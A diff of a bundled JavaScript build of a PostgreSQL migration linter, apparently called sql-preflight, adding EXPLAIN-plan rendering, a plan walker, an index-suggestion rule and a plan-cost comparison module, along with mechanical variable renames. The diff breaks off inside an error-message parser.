@@ -36,21 +36,21 @@ var init_types = __esm({
 
 // src/reporters/github.ts
 function annotation(finding) {
-  const properties = [
+  const properties2 = [
     ["file", finding.file],
     ["line", finding.line],
     ["endLine", finding.endLine]
   ];
-  if (finding.line === finding.endLine) properties.push(["col", finding.column], ["endColumn", finding.endColumn]);
-  properties.push(["title", finding.ruleId]);
+  if (finding.line === finding.endLine) properties2.push(["col", finding.column], ["endColumn", finding.endColumn]);
+  properties2.push(["title", finding.ruleId]);
   const message = [finding.message, finding.help, finding.docsUrl].filter(Boolean).join("\n\n");
-  return `::${finding.severity} ${properties.map(([key, value]) => `${key}=${escapeProperty(String(value))}`).join(",")}::${escapeData(message)}`;
+  return `::${finding.severity} ${properties2.map(([key, value]) => `${key}=${escapeProperty(String(value))}`).join(",")}::${escapeData(message)}`;
 }
-function escapeData(text) {
-  return text.replace(/%/g, "%25").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
+function escapeData(text2) {
+  return text2.replace(/%/g, "%25").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
 }
-function escapeProperty(text) {
-  return escapeData(text).replace(/:/g, "%3A").replace(/,/g, "%2C");
+function escapeProperty(text2) {
+  return escapeData(text2).replace(/:/g, "%3A").replace(/,/g, "%2C");
 }
 var ANNOTATIONS_PER_LEVEL, githubReporter;
 var init_github = __esm({
@@ -105,6 +105,9 @@ function definePlanRule(rule) {
     create: () => ({})
   };
 }
+function isPlanRule(rule) {
+  return rule.meta.category === "plan" && typeof rule.check === "function";
+}
 var DOCS_BASE_URL;
 var init_rule = __esm({
   "src/core/rule.ts"() {
@@ -115,12 +118,12 @@ var init_rule = __esm({
 
 // src/reporters/sarif.ts
 function ruleDescriptor(rule) {
-  const properties = {
+  const properties2 = {
     category: rule.category,
     tags: ["postgresql", "migrations", rule.category],
     "problem.severity": PROBLEM_SEVERITY[rule.severity]
   };
-  if (rule.postgres) properties.postgres = rule.postgres;
+  if (rule.postgres) properties2.postgres = rule.postgres;
   return {
     id: rule.id,
     name: pascalCase(rule.id),
@@ -136,7 +139,7 @@ Documentation: ${rule.docsUrl}`,
     },
     helpUri: rule.docsUrl,
     defaultConfiguration: { level: LEVELS[rule.severity] },
-    properties
+    properties: properties2
   };
 }
 function unknownRuleDescriptor(finding) {
@@ -183,8 +186,8 @@ function parseErrorNotifications(file) {
     ]
   }));
 }
-function artifactLocation(path2) {
-  return { uri: path2.split("/").map(encodeURIComponent).join("/"), uriBaseId: SRCROOT };
+function artifactLocation(path3) {
+  return { uri: path3.split("/").map(encodeURIComponent).join("/"), uriBaseId: SRCROOT };
 }
 function region(span) {
   return { startLine: span.line, startColumn: span.column, endLine: span.endLine, endColumn: span.endColumn };
@@ -278,28 +281,28 @@ function styles(color) {
 function renderFinding(finding, context, style) {
   const severity = style[finding.severity](finding.severity);
   const lines = [`${style.bold(`${finding.file}:${finding.line}:${finding.column}`)}  ${severity}  ${style.dim(finding.ruleId)}  ${finding.message}`];
-  const text = context.readSource(finding.file);
-  if (text !== void 0) lines.push(...codeFrame(text, finding, style));
+  const text2 = context.readSource(finding.file);
+  if (text2 !== void 0) lines.push(...codeFrame(text2, finding, style));
   lines.push(...evidenceLines(finding.evidence).map((line) => `  ${style.bold("evidence:")} ${line}`));
   if (finding.help) lines.push(`  ${style.bold("help:")} ${finding.help}`);
   if (finding.fix) lines.push(`  ${style.bold("fix:")} ${finding.fix.description}`);
   if (finding.docsUrl) lines.push(`  ${style.bold("docs:")} ${finding.docsUrl}`);
   return lines.join("\n");
 }
-function codeFrame(text, finding, style) {
-  const source2 = text.replace(/^\uFEFF/, "").split(/\r?\n/);
+function codeFrame(text2, finding, style) {
+  const source2 = text2.replace(/^\uFEFF/, "").split(/\r?\n/);
   const endLine = finding.endColumn === 1 && finding.endLine > finding.line ? finding.endLine - 1 : finding.endLine;
   let shown = range(finding.line, Math.min(endLine, source2.length));
   if (shown.length > MAX_FRAME_LINES) shown = [...shown.slice(0, MAX_FRAME_LINES - 2), -1, ...shown.slice(-1)];
   const width = String(Math.max(...shown)).length;
-  const gutter = (label) => style.dim(`${label.padStart(width)} | `);
+  const gutter = (label2) => style.dim(`${label2.padStart(width)} | `);
   const out = [];
   for (const lineNumber of shown) {
     if (lineNumber === -1) {
       out.push(style.dim(`${".".repeat(width)} | ...`));
       continue;
     }
-    const chars = [...(source2[lineNumber - 1] ?? "").replace(/\t/g, " ")];
+    const chars = [...(source2[lineNumber - 1] ?? "").replace(/\t/g, " ").replace(/[\x00-\x1f\x7f]/g, "\uFFFD")];
     const from = lineNumber === finding.line ? finding.column - 1 : firstNonBlank(chars);
     const to = lineNumber === finding.endLine ? finding.endColumn - 1 : chars.length;
     out.push(gutter(String(lineNumber)) + chars.join(""));
@@ -323,8 +326,8 @@ function summaryLine(report, style) {
   const counts = ["error", "warning", "notice"].filter((s) => summary[s] > 0).map((s) => style[s](plural(summary[s], s))).join(", ");
   return `${plural(summary.total, "problem")} (${counts}) in ${scope}${suppressed}.`;
 }
-function plural(count, word) {
-  return `${count} ${word}${count === 1 ? "" : "s"}`;
+function plural(count2, word2) {
+  return `${count2} ${word2}${count2 === 1 ? "" : "s"}`;
 }
 var MAX_FRAME_LINES, textReporter;
 var init_text = __esm({
@@ -490,14 +493,14 @@ function relationName(relation) {
 }
 function alterTableCommands(statement, node) {
   const ranges = commandRanges(statement, node);
-  const commands = [];
+  const commands2 = [];
   (node.cmds ?? []).forEach((item, i) => {
     const cmd = item.AlterTableCmd;
     if (!cmd) return;
     const def = cmd.def;
-    commands.push({ cmd, range: ranges?.[i], column: def?.ColumnDef, constraint: def?.Constraint });
+    commands2.push({ cmd, range: ranges?.[i], column: def?.ColumnDef, constraint: def?.Constraint });
   });
-  return commands;
+  return commands2;
 }
 function commandRanges(statement, node) {
   const tokens = statement.tokens;
@@ -509,10 +512,10 @@ function commandRanges(statement, node) {
   let depth = 0;
   let start = first;
   for (let i = first; i <= tokens.length; i++) {
-    const text = tokens[i]?.text;
-    if (text === "(" || text === "[") depth++;
-    else if (text === ")" || text === "]") depth--;
-    else if (text === "," && depth === 0 || i === tokens.length) {
+    const text2 = tokens[i]?.text;
+    if (text2 === "(" || text2 === "[") depth++;
+    else if (text2 === ")" || text2 === "]") depth--;
+    else if (text2 === "," && depth === 0 || i === tokens.length) {
       if (i === start) return void 0;
       ranges.push({ start: tokens[start].range.start, end: tokens[i - 1].range.end });
       start = i + 1;
@@ -527,8 +530,8 @@ function typeNameSpan(statement, typeName) {
   const tokens = statement.tokens;
   const first = tokens.findIndex((t) => t.range.start === typeName?.location);
   if (first < 0) return void 0;
-  const word = (i2) => tokens[i2]?.keyword ? tokens[i2].text.toUpperCase() : void 0;
-  const interval = word(first) === "INTERVAL";
+  const word2 = (i2) => tokens[i2]?.keyword ? tokens[i2].text.toUpperCase() : void 0;
+  const interval = word2(first) === "INTERVAL";
   let i = first + 1;
   let arrayStart;
   const skipGroup = (open, close) => {
@@ -540,18 +543,18 @@ function typeNameSpan(statement, typeName) {
     } while (depth > 0 && i < tokens.length);
   };
   while (i < tokens.length) {
-    const text = tokens[i].text;
-    const keyword = word(i);
-    if (text === "." && i + 1 < tokens.length) i += 2;
-    else if (text === "(") skipGroup("(", ")");
-    else if (text === "[") {
+    const text2 = tokens[i].text;
+    const keyword = word2(i);
+    if (text2 === "." && i + 1 < tokens.length) i += 2;
+    else if (text2 === "(") skipGroup("(", ")");
+    else if (text2 === "[") {
       arrayStart ??= i;
       skipGroup("[", "]");
     } else if (keyword === "ARRAY") {
       arrayStart ??= i;
       i++;
     } else if (keyword && TYPE_NAME_WORDS.has(keyword)) i++;
-    else if ((keyword === "WITH" || keyword === "WITHOUT") && word(i + 1) === "TIME" && word(i + 2) === "ZONE") i += 3;
+    else if ((keyword === "WITH" || keyword === "WITHOUT") && word2(i + 1) === "TIME" && word2(i + 2) === "ZONE") i += 3;
     else if (interval && keyword && INTERVAL_FIELDS.has(keyword)) i++;
     else break;
   }
@@ -625,9 +628,9 @@ function volatileCall(node) {
     const parts = (call.funcname ?? []).map(constantText).filter((p) => !!p);
     const name = parts.at(-1) ?? "";
     const builtin = parts.length === 1 || parts[0] === "pg_catalog";
-    const display2 = `${parts.join(".")}()`;
-    if (VOLATILE.has(name)) return { volatile: "yes", call: display2 };
-    if (!builtin || !NOT_VOLATILE.has(name)) return { volatile: "maybe", call: display2 };
+    const display3 = `${parts.join(".")}()`;
+    if (VOLATILE.has(name)) return { volatile: "yes", call: display3 };
+    if (!builtin || !NOT_VOLATILE.has(name)) return { volatile: "maybe", call: display3 };
   }
   for (const value of Object.values(node)) {
     const found = volatileCall(value);
@@ -1205,8 +1208,8 @@ var init_ban_char_type = __esm({
 
 // src/rules/ban-concurrently-in-transaction.ts
 function isFalse(arg) {
-  const integer = arg?.Integer;
-  if (integer) return !integer.ival;
+  const integer2 = arg?.Integer;
+  if (integer2) return !integer2.ival;
   const value = constantText(arg)?.toLowerCase();
   return value === "false" || value === "off";
 }
@@ -2279,6 +2282,30 @@ function relationName2(node) {
   if (name === void 0) return void 0;
   return node.Schema ? `${quote(node.Schema)}.${quote(name)}` : quote(name);
 }
+function planLines(node) {
+  return [nodeLabel(node) + figures(node), ...properties(node).map((line) => `  ${line}`)];
+}
+function planExcerpt(node, descendants) {
+  const shown = /* @__PURE__ */ new Set([node, ...descendants]);
+  const lines = [];
+  renderNode(node, 0, lines, (n) => shown.has(n));
+  return lines;
+}
+function renderNode(node, indent, lines, include = () => true) {
+  const shown = include(node);
+  let level = indent;
+  const name = node["Subplan Name"];
+  if (name) {
+    if (shown) lines.push(`${"  ".repeat(level)}${name}`);
+    level++;
+  }
+  const [first = "", ...rest] = planLines(node);
+  const arrow = level > 0;
+  if (shown) lines.push(arrow ? `${"  ".repeat(level)}->  ${first}` : first);
+  if (arrow) level += 2;
+  if (shown) for (const line of rest) lines.push("  ".repeat(level) + line);
+  for (const child of node.Plans ?? []) renderNode(child, level + 1, lines, include);
+}
 function nodeName(node) {
   const type = node["Node Type"];
   switch (type) {
@@ -2316,6 +2343,71 @@ function scanTarget(node, alias) {
   if (object === void 0 || alias !== object) target += ` ${quote(alias)}`;
   return target;
 }
+function figures(node) {
+  let text2 = "";
+  if (node["Total Cost"] !== void 0) {
+    text2 += `  (cost=${(node["Startup Cost"] ?? 0).toFixed(2)}..${node["Total Cost"].toFixed(2)} rows=${Math.round(node["Plan Rows"] ?? 0)} width=${node["Plan Width"] ?? 0})`;
+  }
+  const loops = node["Actual Loops"];
+  if (loops !== void 0) {
+    if (loops === 0) return `${text2} (never executed)`;
+    const time2 = node["Actual Total Time"] !== void 0 ? `time=${(node["Actual Startup Time"] ?? 0).toFixed(3)}..${node["Actual Total Time"].toFixed(3)} ` : "";
+    text2 += ` (actual ${time2}rows=${rows(node["Actual Rows"] ?? 0)} loops=${loops})`;
+  }
+  return text2;
+}
+function rows(value) {
+  return Number.isInteger(value) ? String(value) : value.toFixed(2);
+}
+function buffersLine(values) {
+  const sections2 = ["Shared", "Local", "Temp"].map((kind) => {
+    const counts = ["Hit", "Read", "Dirtied", "Written"].map((what) => [what.toLowerCase(), Number(values[`${kind} ${what} Blocks`] ?? 0)]).filter(([, count2]) => count2 > 0).map(([what, count2]) => `${what}=${count2}`);
+    return counts.length ? `${kind.toLowerCase()} ${counts.join(" ")}` : void 0;
+  }).filter((section) => section !== void 0);
+  return sections2.length ? `Buffers: ${sections2.join(", ")}` : void 0;
+}
+function ioTimingLine(values) {
+  const sections2 = ["Shared", "Local", "Temp"].map((kind) => {
+    const times = ["Read", "Write"].map((what) => [what.toLowerCase(), Number(values[`${kind} I/O ${what} Time`] ?? 0)]).filter(([, ms]) => ms > 0).map(([what, ms]) => `${what}=${ms.toFixed(3)}`);
+    return times.length ? `${kind.toLowerCase()} ${times.join(" ")}` : void 0;
+  }).filter((section) => section !== void 0);
+  return sections2.length ? `I/O Timings: ${sections2.join(", ")}` : void 0;
+}
+function properties(node) {
+  const lines = [];
+  const done = /* @__PURE__ */ new Set();
+  for (const [key, value] of Object.entries(node)) {
+    if (NOT_PROPERTIES.has(key) || done.has(key) || value === void 0 || value === null) continue;
+    const group = GROUPS.find((g) => g.keys.includes(key) && (g.when?.(node) ?? true));
+    if (group) {
+      for (const k of group.keys) done.add(k);
+      const line2 = group.line(node);
+      if (line2) lines.push(line2);
+      continue;
+    }
+    const line = property(node, key, value);
+    if (line !== void 0) lines.push(line);
+  }
+  return lines;
+}
+function property(node, key, value) {
+  if (key.startsWith("Rows Removed by") || key === "Subplans Removed") return Number(value) > 0 ? `${key}: ${value}` : void 0;
+  if (key === "Disabled" || key === "Single Copy") return value === true ? `${key}: true` : void 0;
+  if (key === "Inner Unique") return value === true && node.Output !== void 0 ? "Inner Unique: true" : void 0;
+  if (key.endsWith(" Groups") && typeof value === "object" && !Array.isArray(value)) return sortGroups(key, value);
+  if (Array.isArray(value)) return value.every((v) => typeof v === "string") ? `${key}: ${value.join(", ")}` : void 0;
+  if (typeof value === "object") return void 0;
+  return `${key}: ${value}`;
+}
+function sortGroups(key, group) {
+  const methods = group["Sort Methods Used"] ?? [];
+  let line = `${key.replace(/ Groups$/, "")} Groups: ${group["Group Count"]}  Sort Method${methods.length > 1 ? "s" : ""}: ${methods.join(", ")}`;
+  for (const space of ["Memory", "Disk"]) {
+    const used = group[`Sort Space ${space}`];
+    if (used) line += `  Average ${space}: ${used["Average Sort Space Used"]}kB  Peak ${space}: ${used["Peak Sort Space Used"]}kB`;
+  }
+  return line;
+}
 function quote(name) {
   return /^[a-z_][a-z0-9_$]*$/.test(name) && !KEYWORDS.has(name) ? name : `"${name.replaceAll('"', '""')}"`;
 }
@@ -2326,7 +2418,7 @@ function formatShare(value) {
   const percent = value * 100;
   return `${percent < 1 ? Number(percent.toPrecision(1)) : Math.round(percent)}%`;
 }
-var OBJECT_NAME_KEYS, NOT_PROPERTIES, BUFFER_KEYS, IO_TIMING_KEYS, KEYWORDS;
+var OBJECT_NAME_KEYS, NOT_PROPERTIES, BUFFER_KEYS, IO_TIMING_KEYS, GROUPS, KEYWORDS;
 var init_text2 = __esm({
   "src/plan/text.ts"() {
     "use strict";
@@ -2362,6 +2454,54 @@ var init_text2 = __esm({
     ]);
     BUFFER_KEYS = ["Shared", "Local"].flatMap((kind) => ["Hit", "Read", "Dirtied", "Written"].map((what) => `${kind} ${what} Blocks`)).concat(["Temp Read Blocks", "Temp Written Blocks"]);
     IO_TIMING_KEYS = ["Shared", "Local", "Temp"].flatMap((kind) => [`${kind} I/O Read Time`, `${kind} I/O Write Time`]);
+    GROUPS = [
+      {
+        keys: ["Sort Method", "Sort Space Used", "Sort Space Type"],
+        line: (n) => `Sort Method: ${n["Sort Method"]}  ${n["Sort Space Type"]}: ${n["Sort Space Used"]}kB`
+      },
+      {
+        keys: ["Hash Buckets", "Original Hash Buckets", "Hash Batches", "Original Hash Batches", "Peak Memory Usage"],
+        when: (n) => n["Node Type"] === "Hash",
+        line: (n) => n["Hash Batches"] !== n["Original Hash Batches"] || n["Hash Buckets"] !== n["Original Hash Buckets"] ? `Buckets: ${n["Hash Buckets"]} (originally ${n["Original Hash Buckets"]})  Batches: ${n["Hash Batches"]} (originally ${n["Original Hash Batches"]})  Memory Usage: ${n["Peak Memory Usage"]}kB` : `Buckets: ${n["Hash Buckets"]}  Batches: ${n["Hash Batches"]}  Memory Usage: ${n["Peak Memory Usage"]}kB`
+      },
+      {
+        keys: ["Planned Partitions", "HashAgg Batches", "Peak Memory Usage", "Disk Usage"],
+        when: (n) => n["Node Type"] === "Aggregate",
+        line: (n) => {
+          const parts = [];
+          if (n["Planned Partitions"]) parts.push(`Planned Partitions: ${n["Planned Partitions"]}`);
+          const batches = n["HashAgg Batches"];
+          if (batches !== void 0) {
+            parts.push(`Batches: ${batches}  Memory Usage: ${n["Peak Memory Usage"]}kB${batches > 1 ? `  Disk Usage: ${n["Disk Usage"]}kB` : ""}`);
+          }
+          return parts.length ? parts.join("  ") : void 0;
+        }
+      },
+      {
+        keys: ["Cache Hits", "Cache Misses", "Cache Evictions", "Cache Overflows", "Peak Memory Usage"],
+        when: (n) => n["Node Type"] === "Memoize",
+        line: (n) => `Hits: ${n["Cache Hits"]}  Misses: ${n["Cache Misses"]}  Evictions: ${n["Cache Evictions"]}  Overflows: ${n["Cache Overflows"]}  Memory Usage: ${n["Peak Memory Usage"]}kB`
+      },
+      {
+        keys: ["Exact Heap Blocks", "Lossy Heap Blocks"],
+        line: (n) => {
+          const exact = n["Exact Heap Blocks"] ?? 0;
+          const lossy = n["Lossy Heap Blocks"] ?? 0;
+          if (!exact && !lossy) return void 0;
+          return `Heap Blocks:${exact ? ` exact=${exact}` : ""}${lossy ? ` lossy=${lossy}` : ""}`;
+        }
+      },
+      { keys: ["Storage", "Maximum Storage"], line: (n) => `Storage: ${n.Storage}  Maximum Storage: ${n["Maximum Storage"]}kB` },
+      { keys: BUFFER_KEYS, line: (n) => buffersLine(n) },
+      { keys: IO_TIMING_KEYS, line: (n) => ioTimingLine(n) },
+      {
+        keys: ["WAL Records", "WAL FPI", "WAL Bytes", "WAL Buffers Full"],
+        line: (n) => {
+          const parts = [["records", "WAL Records"], ["fpi", "WAL FPI"], ["bytes", "WAL Bytes"], ["buffers full", "WAL Buffers Full"]].filter(([, key]) => Number(n[key]) > 0).map(([label2, key]) => `${label2}=${n[key]}`);
+          return parts.length ? `WAL: ${parts.join(" ")}` : void 0;
+        }
+      }
+    ];
     KEYWORDS = new Set(
       "all analyse analyze and any array as asc asymmetric both case cast check collate column constraint create current_catalog current_date current_role current_time current_timestamp current_user default deferrable desc distinct do else end except false fetch for foreign from grant group having in initially intersect into lateral leading limit localtime localtimestamp not null offset on only or order placing primary references returning select session_user some symmetric system_user table then to trailing true union unique user using variadic when where window with authorization binary collation concurrently cross current_schema freeze full ilike inner is isnull join left like natural notnull outer overlaps right similar tablesample verbose between bigint bit boolean char character coalesce dec decimal exists extract float greatest grouping inout int integer interval json json_array json_arrayagg json_exists json_object json_objectagg json_query json_scalar json_serialize json_table json_value least merge_action national nchar none normalize nullif numeric out overlay position precision real row setof smallint substring time timestamp treat trim values varchar xmlattributes xmlconcat xmlelement xmlexists xmlforest xmlnamespaces xmlparse xmlpi xmlroot xmlserialize xmltable".split(" ")
     );
@@ -2369,6 +2509,19 @@ var init_text2 = __esm({
 });
 
 // src/plan/walk.ts
+function walkPlan(root) {
+  const visits = [];
+  const visit = (node, parent, processes) => {
+    const entry = { node, parent, children: [], depth: parent ? parent.depth + 1 : 0, processes };
+    visits.push(entry);
+    const gather = node["Node Type"] === "Gather" || node["Node Type"] === "Gather Merge";
+    const below2 = gather ? (node["Workers Launched"] ?? node["Workers Planned"] ?? 0) + (node["Single Copy"] ? 0 : 1) : processes;
+    for (const child of node.Plans ?? []) entry.children.push(visit(child, entry, Math.max(1, below2)));
+    return entry;
+  };
+  visit(root, void 0, 1);
+  return visits;
+}
 function isAnalyzed(explain) {
   return explain.Plan["Actual Loops"] !== void 0;
 }
@@ -2389,8 +2542,8 @@ function exclusiveTime(visit) {
 }
 function workShare(explain, visit, exclusive) {
   const execution = explain["Execution Time"];
-  const time = exclusive ? exclusiveTime(visit) : inclusiveTime(visit);
-  if (time !== void 0 && execution) return time / execution;
+  const time2 = exclusive ? exclusiveTime(visit) : inclusiveTime(visit);
+  if (time2 !== void 0 && execution) return time2 / execution;
   const total = explain.Plan["Total Cost"];
   if (!total) return 1;
   const own = visit.node["Total Cost"] ?? 0;
@@ -2645,11 +2798,11 @@ var init_constraint_missing_not_valid = __esm({
             for (const { cmd, range: range2, column, constraint } of alterTableCommands(statement, node)) {
               if (cmd.subtype === "AT_AddConstraint") {
                 if (!constraint || !checksRows(constraint)) continue;
-                const validate2 = constraint.conname ? `\`ALTER TABLE ${table} VALIDATE CONSTRAINT ${constraint.conname};\`` : "VALIDATE CONSTRAINT (name the constraint so that you can)";
+                const validate3 = constraint.conname ? `\`ALTER TABLE ${table} VALIDATE CONSTRAINT ${constraint.conname};\`` : "VALIDATE CONSTRAINT (name the constraint so that you can)";
                 context.report(statement, {
                   range: range2,
                   message: scanMessage(constraint, table, `Adding ${describe(constraint)} to ${table}`),
-                  help: `Add it with NOT VALID, which checks only new and updated rows, then run ${validate2} in a separate transaction: it checks the existing rows without blocking reads or writes.`,
+                  help: `Add it with NOT VALID, which checks only new and updated rows, then run ${validate3} in a separate transaction: it checks the existing rows without blocking reads or writes.`,
                   fix: range2 && { description: "Add NOT VALID", edits: [{ range: { start: range2.end, end: range2.end }, text: " NOT VALID" }] }
                 });
               } else if (cmd.subtype === "AT_AddColumn") {
@@ -2692,10 +2845,10 @@ var init_down_migration_mismatch = __esm({
 });
 
 // src/rules/identifier-too-long.ts
-function identifierValue(text) {
-  const quoted = QUOTED.exec(text);
+function identifierValue(text2) {
+  const quoted = QUOTED.exec(text2);
   if (quoted) return quoted[1].replaceAll('""', '"');
-  return UNQUOTED.test(text) ? text.replace(/[A-Z]/g, (c) => c.toLowerCase()) : void 0;
+  return UNQUOTED.test(text2) ? text2.replace(/[A-Z]/g, (c) => c.toLowerCase()) : void 0;
 }
 function truncated(bytes) {
   let end2 = MAX_BYTES;
@@ -2842,17 +2995,47 @@ var init_index_only_heap_fetches = __esm({
           const fetches = node["Heap Fetches"];
           const loops = node["Actual Loops"] ?? 0;
           if (node["Node Type"] !== "Index Only Scan" || fetches === void 0 || fetches < minFetches || loops === 0) continue;
-          const rows = (actualRows(node) ?? 0) + ((node["Rows Removed by Filter"] ?? 0) + (node["Rows Removed by Index Recheck"] ?? 0)) * loops;
-          if (fetches < minShare * Math.max(rows, 1) || workShare(plan, visit, true) < minRuntimeShare) continue;
+          const rows2 = (actualRows(node) ?? 0) + ((node["Rows Removed by Filter"] ?? 0) + (node["Rows Removed by Index Recheck"] ?? 0)) * loops;
+          if (fetches < minShare * Math.max(rows2, 1) || workShare(plan, visit, true) < minRuntimeShare) continue;
           const table = relationName2(node) ?? "the table";
           context.report({
             node,
-            message: `${nodeLabel(node)} fetched ${formatCount(fetches)} rows from ${table} to return ${formatCount(rows)}: their pages are not marked all-visible, so the index-only scan read the table anyway.`,
+            message: `${nodeLabel(node)} fetched ${formatCount(fetches)} rows from ${table} to return ${formatCount(rows2)}: their pages are not marked all-visible, so the index-only scan read the table anyway.`,
             help: `VACUUM ${table} so its pages are marked all-visible again, and tune autovacuum for it (autovacuum_vacuum_scale_factor, autovacuum_vacuum_insert_scale_factor) so it stays so.`,
-            evidence: { heapFetches: fetches, rows: Math.round(rows) }
+            evidence: { heapFetches: fetches, rows: Math.round(rows2) }
           });
         }
       }
+    });
+  }
+});
+
+// src/rules/index-suggestion.ts
+var index_suggestion_default;
+var init_index_suggestion = __esm({
+  "src/rules/index-suggestion.ts"() {
+    "use strict";
+    init_rule();
+    index_suggestion_default = defineRule({
+      meta: {
+        id: "index-suggestion",
+        category: "plan",
+        severity: "notice",
+        summary: "An index would at least halve the estimated cost of a query, as measured on the seeded database.",
+        why: "The query reads a table through a sequential scan, a join or a sort that an index would serve. sql-preflight created the index on the throwaway database with seeded data, planned the query again, and the estimated cost fell by half or more; a second column is suggested only when it halves the cost again. Without the index the query reads every row of the table on each call, and its cost grows with the table.",
+        safeAlternative: "Create the suggested index in a migration with CREATE INDEX CONCURRENTLY (outside a transaction block), which does not block writes while it builds. Weigh its size and the cost it adds to every INSERT and UPDATE of the table against how often the query runs; the seeded data is not production's, so check the plan there too.",
+        examples: {
+          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\nINSERT INTO orders SELECT g, 1 + g % 2000, g % 500 + 0.99 FROM generate_series(1, 100000) AS g;\nCREATE TABLE countries (code text PRIMARY KEY, name text NOT NULL);\nINSERT INTO countries VALUES ('DE', 'Germany'), ('FR', 'France'), ('JP', 'Japan');\nVACUUM ANALYZE orders;\nVACUUM ANALYZE countries;",
+          bad: ["SELECT id, total FROM orders WHERE customer_id = 42;"],
+          good: ["SELECT id, total FROM orders WHERE id = 42;", "SELECT code FROM countries WHERE name = 'Japan';"]
+        },
+        references: [
+          "https://www.postgresql.org/docs/current/sql-createindex.html#SQL-CREATEINDEX-CONCURRENTLY",
+          "https://www.postgresql.org/docs/current/indexes-multicolumn.html",
+          "https://www.postgresql.org/docs/current/using-explain.html"
+        ]
+      },
+      create: () => ({})
     });
   }
 });
@@ -2972,6 +3155,253 @@ var init_modified_migration = __esm({
         why: "Migration tools run each migration once and record it; databases that already applied this file will never run the edit, so production and new environments drift apart. sql-preflight replays the base version of the file and lints the edited one.",
         safeAlternative: "Leave applied migrations as they are and put the change in a new migration.",
         examples: { bad: [], good: [] }
+      },
+      create: () => ({})
+    });
+  }
+});
+
+// src/explain/compare.ts
+function comparePlans(base, changed, options = {}) {
+  const { costIncrease, trivialCost } = { ...DEFAULT_COMPARE_OPTIONS, ...options };
+  const baseCost = base.Plan["Total Cost"] ?? 0;
+  const changedCost = changed.Plan["Total Cost"] ?? 0;
+  if (changedCost < trivialCost || changedCost <= baseCost) return [];
+  const increase = baseCost > 0 ? (changedCost - baseCost) / baseCost : Number.POSITIVE_INFINITY;
+  const baseScans = scansByRelation(base);
+  const changedScans = scansByRelation(changed);
+  const lost = [];
+  for (const [key, before] of baseScans) {
+    const after = changedScans.get(key) ?? [];
+    const indexed = before.find((v) => INDEX_ACCESS.has(v.node["Node Type"]));
+    const seq = after.find((v) => v.node["Node Type"] === "Seq Scan");
+    if (!indexed || !seq || after.some((v) => INDEX_ACCESS.has(v.node["Node Type"]))) continue;
+    const relation = relationName2(seq.node);
+    lost.push({
+      kind: "index-scan-lost",
+      message: `${nodeLabel(indexed.node)} became ${nodeLabel(seq.node)}: the query's estimated cost rises from ${formatCost(baseCost)} to ${formatCost(changedCost)}${formatRise(increase)}.`,
+      evidence: {
+        base: { cost: baseCost, lines: excerpt(indexed) },
+        changed: { cost: changedCost, lines: excerpt(seq) },
+        relation,
+        increase
+      }
+    });
+  }
+  if (lost.length || increase <= costIncrease) return lost;
+  const differing = [];
+  for (const [key, after] of changedScans) {
+    const before = baseScans.get(key) ?? [];
+    after.forEach((visit, i) => {
+      const was = before[i];
+      if (!was || nodeLabel(was.node) !== nodeLabel(visit.node) || nodeCost(visit) > nodeCost(was) * (1 + costIncrease)) {
+        differing.push({ before: was, after: visit });
+      }
+    });
+  }
+  const changes = differing.map(
+    ({ before, after }) => before && nodeLabel(before.node) !== nodeLabel(after.node) ? `${nodeLabel(before.node)} became ${nodeLabel(after.node)}` : `${nodeLabel(after.node)} costs ${formatCost(nodeCost(after))}${before ? ` (was ${formatCost(nodeCost(before))})` : ""}`
+  );
+  const relations = [...new Set(differing.map((d) => relationName2(d.after.node)))];
+  return [
+    {
+      kind: "cost-increase",
+      message: `The query's estimated cost rises from ${formatCost(baseCost)} to ${formatCost(changedCost)}${formatRise(increase)}${changes.length ? `: ${changes.join("; ")}` : ""}.`,
+      evidence: {
+        base: { cost: baseCost, lines: differing.length ? differing.flatMap((d) => d.before ? excerpt(d.before) : []) : planExcerpt(base.Plan, []) },
+        changed: { cost: changedCost, lines: differing.length ? differing.flatMap((d) => excerpt(d.after)) : planExcerpt(changed.Plan, []) },
+        ...relations.length === 1 ? { relation: relations[0] } : {},
+        increase
+      }
+    }
+  ];
+}
+function nodeCost(visit) {
+  return visit.node["Total Cost"] ?? 0;
+}
+function scansByRelation(explain) {
+  const scans = /* @__PURE__ */ new Map();
+  for (const visit of walkPlan(explain.Plan)) {
+    const relation = relationName2(visit.node);
+    if (relation === void 0 || visit.node["Node Type"] === "ModifyTable") continue;
+    const key = `${relation} ${visit.node.Alias ?? ""}`;
+    scans.set(key, [...scans.get(key) ?? [], visit]);
+  }
+  return scans;
+}
+function excerpt(visit) {
+  const bitmaps = visit.node["Node Type"] === "Bitmap Heap Scan" ? bitmapIndexScans(visit.node) : [];
+  return planExcerpt(visit.node, bitmaps);
+}
+function bitmapIndexScans(node) {
+  return (node.Plans ?? []).flatMap((child) => child["Node Type"] === "Bitmap Index Scan" ? [child] : bitmapIndexScans(child));
+}
+function formatCost(cost2) {
+  return cost2.toLocaleString("en-US", { minimumFractionDigits: 2, maximumFractionDigits: 2 });
+}
+function formatRise(increase) {
+  if (!Number.isFinite(increase)) return "";
+  return increase >= 1 ? ` (${Number((increase + 1).toPrecision(2))}x)` : ` (+${Math.round(increase * 100)}%)`;
+}
+function readMessage(message) {
+  const text2 = message.trim();
+  let m;
+  if (m = /^column "(.+)" of relation "(.+)" does not exist/.exec(text2)) return { kind: "column", name: m[1], relation: m[2] };
+  if (m = /^column "(.+)" does not exist/.exec(text2)) return { kind: "column", name: m[1] };
+  if (m = /^column (\S+) does not exist/.exec(text2)) return { kind: "column", name: lastPart(m[1]) };
+  if (m = /^column "(.+)" is of type (.+) but expression is of type (.+)$/.exec(text2)) return { kind: "types", types: [m[2], m[3]], column: m[1] };
+  if (m = /^relation "(.+)" does not exist/.exec(text2)) {
+    const dot = m[1].lastIndexOf(".");
+    return dot < 0 ? { kind: "relation", name: m[1] } : { kind: "relation", name: m[1].slice(dot + 1), schema: m[1].slice(0, dot) };
+  }
+  if (m = /^function (\S+)\((.*)\) does not exist/.exec(text2)) {
+    return { kind: "function", name: lastPart(m[1]), types: m[2] ? m[2].split(", ") : [] };
+  }
+  if (m = /^type "(.+)" does not exist/.exec(text2)) return { kind: "type", name: lastPart(m[1]) };
+  if (m = /^schema "(.+)" does not exist/.exec(text2)) return { kind: "schema", name: m[1] };
+  if (m = /^operator does not exist: (.+)$/.exec(text2)) return { kind: "types", types: operandTypes(m[1]) };
